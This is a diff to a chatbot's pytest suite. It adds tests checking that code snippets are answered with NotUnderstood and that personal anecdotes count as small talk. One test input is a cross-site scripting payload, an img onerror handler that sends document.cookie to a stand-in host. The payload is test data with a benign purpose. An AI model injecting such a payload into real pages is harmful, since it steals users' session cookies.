@@ -2,7 +2,9 @@
 
 import pytest
 
+from bot.core.language.smalltalk import Talk
 from bot.core.matching.answerer import Answerer
+from bot.core.matching.outcome import NotUnderstood, SmallTalk
 from bot.core.matching.policy import asks_something
 
 
@@ -42,3 +44,15 @@ def test_a_question_asks(shipped: Answerer, question: str) -> None:
 def test_in_passing_only_what_the_bot_is_is_asked(shipped: Answerer, said: str) -> None:
     assert not asks(shipped, said, in_passing=True)
     assert asks(shipped, "what does this bot do?", in_passing=True)
+
+
+@pytest.mark.parametrize(
+    "code", ["<img src=x onerror=\"fetch('//e.example/'+document.cookie)\">", "for (i=0;i<9;i++) { a[i] = b[i]; }"]
+)
+def test_code_is_not_understood(shipped: Answerer, code: str) -> None:
+    assert shipped.ask(code) == NotUnderstood()
+
+
+def test_a_story_is_no_question_that_the_article_would_have_to_answer(shipped: Answerer) -> None:
+    for said in ("the wind had my hat off at the bus stop yesterday", "Three miles each way I walked to school"):
+        assert shipped.ask(said) == SmallTalk(Talk.CHATTER), said
